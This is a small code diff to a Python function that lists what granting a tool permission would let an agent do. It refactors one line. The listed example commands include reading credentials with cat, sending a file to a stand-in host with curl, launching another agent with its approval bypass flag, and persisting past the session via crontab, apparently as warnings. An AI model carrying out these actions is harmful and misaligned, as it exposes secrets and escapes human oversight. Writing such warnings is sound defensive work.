@@ -37,5 +37,6 @@ def implied(product: str) -> tuple[str, ...]:
     found += [f"read credentials (`cat {key}`)"] if key else []
     found.append("send anything to any host (`curl -d @file https://example.net`)")
     if entry is not None and entry.get("bypass"):
-        found.append(f"start another agent that asks nobody (`{next(iter((*entry['heads'], *entry.get('shared', ()))))} {next(iter(entry['bypass']))}`)")
+        program = next(iter((*entry["heads"], *entry.get("shared", ()))))
+        found.append(f"start another agent that asks nobody (`{program} {next(iter(entry['bypass']))}`)")
     return (*found, "go on after the session (`crontab -`)")
